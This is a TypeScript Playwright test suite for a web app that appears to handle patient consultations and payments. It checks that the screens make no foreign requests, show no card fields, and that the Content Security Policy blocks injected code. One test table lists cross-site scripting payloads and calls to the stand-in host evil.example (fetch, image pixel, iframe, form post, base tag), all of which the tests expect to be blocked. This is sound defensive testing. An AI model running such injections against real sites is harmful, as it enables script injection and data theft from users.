import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { FAKE_MEDIA, launchBrowser, openContext } from './browser.ts';
import { SCREENS, become } from './screen-list.ts';
import { NOTHING, watchContext } from './watch-context.ts';
import type { Sightings } from './watch-context.ts';

const PEOPLE = [
  { language: 'sw', device: 'phone' },
  { language: 'en', device: 'desktop' },
  { language: 'fr', device: 'phone' },
] as const;

/** Each of these holds a time that may be the same one: nobody can be in two consultations at once. */
const HOLDING = ['pay', 'pay-waiting', 'pay-refused'];
const OPEN = SCREENS.filter(({ of }) => of === undefined);
const HELD = SCREENS.filter(({ name }) => HOLDING.includes(name));
const PERSONAL = SCREENS.filter(({ of, name }) => of === 'patient' && !HOLDING.includes(name));

const DOCTORS = SCREENS.filter(({ of }) => of === 'doctor');

const CARD_FIELDS = ['[autocomplete^="cc-"]', ...['card', 'cvv', 'cvc', 'expiry', 'pan'].flatMap((word) => [`[name*="${word}" i]:not([name=payment_method]):is(input:not([type=radio]),select)`, `input[id*="${word}" i]:not([type=radio])`])].join(',');

describe.each(PEOPLE)('in $language on a $device', ({ language, device }) => {
  const origin = inject('origin');
  let browser: Browser;
  let page: Page;
  let seen: Sightings;

  beforeAll(async () => {
    browser = await launchBrowser(FAKE_MEDIA);
    const context = await openContext(browser, { origin, device, language });
    seen = await watchContext(context, origin);
    page = await context.newPage();
  });
  afterAll(async () => { await browser.close(); });

  const visit = async (open: (typeof SCREENS)[number]['open']) => {
    await open({ page, origin, device, language });
    await page.waitForLoadState('networkidle');
    const cards = await page.locator(CARD_FIELDS).count();
    expect({ ...seen, cards }).toEqual({ ...NOTHING, cards: 0 });
  };

  const arrive = () => become(page, 'patient', { language });

  test.each(OPEN)('$name keeps to its policy and to this house (V-06, P-09)', ({ open }) => visit(open));

  test.each(HELD)('$name keeps to them', async ({ open }) => {
    await arrive();
    await visit(open);
  });

  test('signing in keeps to them', () => visit(arrive));

  test.each(PERSONAL)('$name keeps to them, signed in', ({ open }) => visit(open));

  describe('a doctor', () => {
    beforeAll(() => become(page, 'doctor', { language }));
    test.each(DOCTORS)('$name keeps to them', ({ open }) => visit(open));
  });
});

describe('the policy works', () => {
  const origin = inject('origin');
  let browser: Browser;
  beforeAll(async () => { browser = await launchBrowser(); });
  afterAll(async () => { await browser.close(); });

  const ATTACKS: Readonly<Record<string, string>> = {
    'an inline script': "const made = document.createElement('script'); made.text = 'window.ran = true'; document.body.append(made)",
    'a handler': "document.body.setAttribute('onclick', 'window.ran = true'); document.body.click()",
    'markup from text': "document.body.innerHTML = '<img src=x onerror=\"window.ran = true\">'",
    'a foreign picture': "new Image().src = 'https://evil.example/pixel.gif'",
    'a foreign call': "fetch('https://evil.example/').catch(() => undefined)",
    'a frame': "const made = document.createElement('iframe'); made.src = 'https://evil.example/'; document.body.append(made)",
    'a foreign form': "const made = document.createElement('form'); made.action = 'https://evil.example/'; document.body.append(made); made.submit()",
    'another base': "const made = document.createElement('base'); made.href = 'https://evil.example/'; document.head.append(made)",
  };

  test.each(Object.entries(ATTACKS))('against %s', async (_, attack) => {
    const context = await openContext(browser, { origin, device: 'desktop', language: 'en' });
    const seen = await watchContext(context, origin);
    const page = await context.newPage();
    await page.goto('/about');
    // Evaluated by the debugger, as if a script of ours had been tricked into it.
    await page.evaluate(attack).catch(() => undefined);
    await expect.poll(() => seen.violations.length, { timeout: 5_000 }).toBeGreaterThan(0);
    expect([await page.evaluate('window.ran'), page.url().startsWith(origin), seen.foreign.filter((url) => !url.includes('pixel.gif'))]).toEqual([undefined, true, []]);
    await context.close();
  });
});
